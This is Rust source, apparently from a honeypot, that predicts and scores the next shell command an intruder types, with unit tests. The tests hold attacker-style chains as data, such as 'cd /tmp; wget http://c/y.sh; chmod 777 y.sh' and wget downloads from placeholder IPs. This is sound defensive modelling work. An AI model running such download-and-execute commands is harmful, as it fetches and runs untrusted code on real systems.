//! The session's next-command prediction (Layer 1, [`crate::models::markov`]): the model set
//! taken when the session started, the session's context (its login, last commands, fetched
//! file names and pauses; [`SessionContext`], bounded) and the guesses standing for the next
//! command. Each command typed scores the standing guesses (first guess right, one of the
//! three right, or a miss) as a `mirage.prediction` event and in the node's metrics, then
//! joins the context and the model guesses the command after it.
//!
//! With a node memory (a live node's, [`crate::models::memory`]) the guesses mix in what the
//! node's finished sessions typed, and the session's commands (up to
//! [`memory::MAX_COMMANDS`]) join the memory when it ends ([`Predictor::finish`]).
//!
//! Without a next-command model nothing is kept and nothing is emitted.

use std::sync::Arc;

use chrono::{DateTime, Utc};

use crate::events::{EventKind, PredictedCommand};
use crate::metrics::Metrics;
use crate::models::Models;
use crate::models::context::{Login, SessionContext};
use crate::models::markov::{Markov, Prediction};
use crate::models::memory::{self, NodeMemory};
use crate::models::normalize::Normalized;

/// Guesses made for each next command (top-3 accuracy needs three).
pub const TOP_K: usize = 3;
/// Most commands scored in one session; later commands are neither scored nor kept, so a
/// flood of `;` cannot flood the event log.
pub const MAX_COMMANDS: usize = 10_000;
/// Longest normalized command kept or reported, in bytes; longer ones are cut at a character
/// boundary (no trained command is that long, so the cut never turns a miss into a hit).
pub const MAX_TOKEN_BYTES: usize = 1024;

/// One session's context and standing guesses.
#[derive(Debug, Clone)]
pub(super) struct Predictor {
    /// The model set the session started with (a reload does not change it).
    models: Arc<Models>,
    /// When the session started: commands are placed in time from it.
    started: DateTime<Utc>,
    /// What the model knows of the session so far.
    context: SessionContext,
    /// The guesses for the next command, once made.
    standing: Option<Vec<Prediction>>,
    /// Commands scored so far.
    scored: usize,
    /// The node memory the session predicts with and joins when it ends (`None`: none).
    memory: Option<Arc<NodeMemory>>,
    /// The login, for the memory.
    login: Login,
    /// The session's first commands, for the memory (empty without one).
    commands: Vec<Normalized>,
}

impl Predictor {
    /// A session that logged in with `login` at `started` and has typed nothing yet,
    /// predicting with `models`.
    pub(super) fn new(models: Arc<Models>, login: &Login, started: DateTime<Utc>) -> Predictor {
        Predictor {
            models,
            started,
            context: SessionContext::new(login),
            standing: None,
            scored: 0,
            memory: None,
            login: login.clone(),
            commands: Vec::new(),
        }
    }

    /// This predictor with the node's memory (`None`: none).
    pub(super) fn with_memory(mut self, memory: Option<Arc<NodeMemory>>) -> Predictor {
        self.memory = memory;
        self
    }

    /// The session ended: its commands join the node memory (once; nothing without one or
    /// without a model).
    pub(super) fn finish(&mut self) {
        let commands = std::mem::take(&mut self.commands);
        if let (Some(memory), Some(markov)) = (self.memory.take(), self.models.markov.as_ref())
            && !commands.is_empty()
        {
            memory.remember(markov, &self.login, &commands);
        }
    }

    /// The guesses for the next command, with the node memory when there is one.
    fn guess(&self, markov: &Markov) -> Vec<Prediction> {
        match &self.memory {
            Some(memory) => memory.predict(markov, &self.context, TOP_K),
            None => markov.predict_in(&self.context, TOP_K),
        }
    }

    /// Takes one input line typed at `at`, its commands normalized (`commands`): for each command, the `mirage.prediction`
    /// event scoring the guesses made before it (also counted in `metrics`). Empty when no
    /// next-command model is loaded, the line holds no command, or the session is past
    /// [`MAX_COMMANDS`].
    pub(super) fn observe(
        &mut self,
        commands: &[Normalized],
        at: DateTime<Utc>,
        metrics: &Metrics,
    ) -> Vec<EventKind> {
        let models = Arc::clone(&self.models);
        let Some(markov) = models.markov.as_ref() else {
            return Vec::new();
        };
        let seconds = (at - self.started)
            .to_std()
            .map_or(0.0, |elapsed| elapsed.as_secs_f64());
        let mut events = Vec::new();
        for command in commands {
            if command.token.is_empty() || self.scored >= MAX_COMMANDS {
                continue;
            }
            let mut command = command.clone();
            truncate(&mut command.token, MAX_TOKEN_BYTES);
            let guesses = self.standing.take().unwrap_or_else(|| self.guess(markov));
            let hit_top1 = guesses.first().is_some_and(|g| g.token == command.token);
            let hit_top3 = guesses.iter().any(|g| g.token == command.token);
            metrics.record_prediction(hit_top1, hit_top3);
            self.scored += 1;
            events.push(EventKind::Prediction {
                predicted: guesses
                    .into_iter()
                    .map(|g| PredictedCommand {
                        command: g.token,
                        probability: (g.probability * 10_000.0).round() / 10_000.0,
                    })
                    .collect(),
                actual: command.token.clone(),
                hit_top1,
                hit_top3,
                model: models.version().to_owned(),
            });
            self.context.push(&command, Some(seconds));
            if self.memory.is_some() && self.commands.len() < memory::MAX_COMMANDS {
                self.commands.push(command);
            }
            // Without a node memory the guesses depend on the context alone, which nothing
            // changes before the next command: they are made when it comes (the same
            // guesses), and never for the session's last command. The memory changes as other
            // sessions end, so with one they are made now, as the session stands.
            if self.memory.is_some() {
                self.standing = Some(self.guess(markov));
            }
        }
        events
    }
}

/// Cuts `text` to at most `max` bytes, at a character boundary.
fn truncate(text: &mut String, max: usize) {
    if text.len() > max {
        let mut end = max;
        while !text.is_char_boundary(end) {
            end -= 1;
        }
        text.truncate(end);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::models::markov::Markov;
    use crate::models::normalize::{Normalized, normalize_command, normalize_line};

    impl Predictor {
        fn observe_now(&mut self, line: &str, metrics: &Metrics) -> Vec<EventKind> {
            let normalized: Vec<Normalized> = crate::models::commands::split(line)
                .iter()
                .map(normalize_command)
                .collect();
            self.observe(&normalized, Utc::now(), metrics)
        }
    }

    const CHAIN: [&str; 5] = [
        "uname -a",
        "cat /proc/cpuinfo",
        "free -m",
        "cd /tmp",
        "wget http://198.51.100.9/x.sh",
    ];

    fn predictor(models: Arc<Models>) -> Predictor {
        Predictor::new(models, &Login::default(), Utc::now())
    }

    fn models() -> Arc<Models> {
        let chain: Vec<Normalized> = CHAIN.iter().flat_map(|l| normalize_line(l)).collect();
        let mut models = Models {
            markov: Some(Markov::trained(3, [chain.as_slice(), chain.as_slice()])),
            ..Models::default()
        };
        models.manifest.version = "0123456789ab".into();
        Arc::new(models)
    }

    /// (actual, hit_top1, hit_top3, first guess) of each event.
    fn scored(events: &[EventKind]) -> Vec<(String, bool, bool, Option<String>)> {
        events
            .iter()
            .map(|e| match e {
                EventKind::Prediction {
                    predicted,
                    actual,
                    hit_top1,
                    hit_top3,
                    model,
                } => {
                    assert_eq!(model, "0123456789ab");
                    assert!(predicted.len() <= TOP_K);
                    (
                        actual.clone(),
                        *hit_top1,
                        *hit_top3,
                        predicted.first().map(|p| p.command.clone()),
                    )
                }
                other => panic!("not a prediction: {other:?}"),
            })
            .collect()
    }

    #[test]
    fn a_known_chain_is_hit_and_a_novel_command_is_a_miss() {
        let metrics = Metrics::new();
        let mut p = predictor(models());
        let first = scored(&p.observe_now("uname -a; cat /proc/cpuinfo", &metrics));
        assert_eq!(
            first,
            [
                ("uname -a".into(), true, true, Some("uname -a".into())),
                (
                    "cat /proc/cpuinfo".into(),
                    true,
                    true,
                    Some("cat /proc/cpuinfo".into())
                ),
            ]
        );
        assert!(p.observe_now("   ", &metrics).is_empty());
        assert!(scored(&p.observe_now("free -m", &metrics))[0].1);
        assert!(scored(&p.observe_now("cd /tmp", &metrics))[0].1);
        // Another URL, the same normalized command.
        let wget = scored(&p.observe_now("wget https://203.0.113.5/bins.sh", &metrics));
        assert_eq!(wget[0].0, "wget <URL>");
        assert!(wget[0].1);
        let novel = scored(&p.observe_now("nproc --all", &metrics));
        assert_eq!(novel[0].0, "nproc --all");
        assert!(!novel[0].1 && !novel[0].2, "{novel:?}");
        let text = metrics.render();
        assert!(
            text.contains("mirage_predictions_total{result=\"top1\"} 5"),
            "{text}"
        );
        assert!(
            text.contains("mirage_predictions_total{result=\"miss\"} 1"),
            "{text}"
        );
    }

    #[test]
    fn probabilities_are_rounded_and_sum_to_at_most_one() {
        let metrics = Metrics::new();
        let mut p = predictor(models());
        p.observe_now("uname -a", &metrics);
        let events = p.observe_now("ls -la", &metrics);
        let EventKind::Prediction { predicted, .. } = &events[0] else {
            panic!("{events:?}");
        };
        let sum: f64 = predicted.iter().map(|g| g.probability).sum();
        assert!(sum <= 1.0 + 1e-3, "{predicted:?}");
        for g in predicted {
            assert_eq!(g.probability, (g.probability * 1e4).round() / 1e4);
        }
    }

    #[test]
    fn without_a_model_nothing_is_kept_or_emitted() {
        let metrics = Metrics::new();
        let mut p = predictor(Arc::new(Models::default()));
        assert!(p.observe_now("uname -a; w", &metrics).is_empty());
        assert_eq!(p.context.commands(), 0);
        assert!(
            metrics
                .render()
                .contains("mirage_predictions_total{result=\"miss\"} 0")
        );
    }

    #[test]
    fn context_and_scoring_are_bounded() {
        let metrics = Metrics::new();
        let mut p = predictor(models());
        let line = vec!["free -m"; 500].join(";");
        let mut events = 0;
        for _ in 0..(MAX_COMMANDS / 500 + 2) {
            events += p.observe_now(&line, &metrics).len();
        }
        assert_eq!(events, MAX_COMMANDS);
        assert!(p.observe_now("uname -a", &metrics).is_empty());
        let mut p = predictor(models());
        let long = format!("echo {}", "é".repeat(MAX_TOKEN_BYTES));
        let events = scored(&p.observe_now(&long, &metrics));
        assert!(events[0].0.len() <= MAX_TOKEN_BYTES);
        assert!(events[0].0.starts_with("echo é"));
    }

    #[test]
    fn a_finished_session_teaches_the_node_memory_the_next_sessions_command() {
        // The model is unsure what follows the download; the campaign now runs chmod.
        let seen = |lines: &[&str]| -> Vec<Normalized> {
            lines.iter().flat_map(|l| normalize_line(l)).collect()
        };
        let a = seen(&["cd /tmp", "wget http://a/x.sh", "sh x.sh"]);
        let b = seen(&["cd /tmp", "wget http://a/x.sh", "curl -O http://a/x.sh"]);
        let mut set = Models {
            markov: Some(Markov::trained(3, [a.as_slice(), b.as_slice()])),
            ..Models::default()
        };
        set.manifest.version = "0123456789ab".into();
        let set = Arc::new(set);
        let memory = Arc::new(NodeMemory::default());
        let metrics = Metrics::new();
        let session = || predictor(set.clone()).with_memory(Some(memory.clone()));
        let script = "cd /tmp; wget http://c/y.sh; chmod 777 y.sh";
        let mut first = session();
        assert_eq!(
            scored(&first.observe_now(script, &metrics))[2].3.as_deref(),
            Some("curl -O <URL>")
        );
        // Not yet ended: the next session knows nothing of it.
        let mut overlapping = session();
        assert!(!scored(&overlapping.observe_now(script, &metrics))[2].1);
        first.finish();
        first.finish();
        assert_eq!(memory.sessions(), 1, "a session joins the memory once");
        let mut second = session();
        let events = scored(&second.observe_now(script, &metrics));
        assert!(events[2].1, "{events:?}");
        // Without the memory the model's guess stands.
        let mut alone = predictor(set.clone());
        assert!(!scored(&alone.observe_now(script, &metrics))[2].1);
    }

    #[test]
    fn hostile_lines_do_not_panic() {
        let metrics = Metrics::new();
        let mut p = predictor(models());
        for line in [
            ";;;",
            "'",
            "\"\\",
            "\u{0}é'ü\"",
            "a | | b",
            "$(",
            "`",
            "&&&",
        ] {
            p.observe_now(line, &metrics);
        }
    }
}
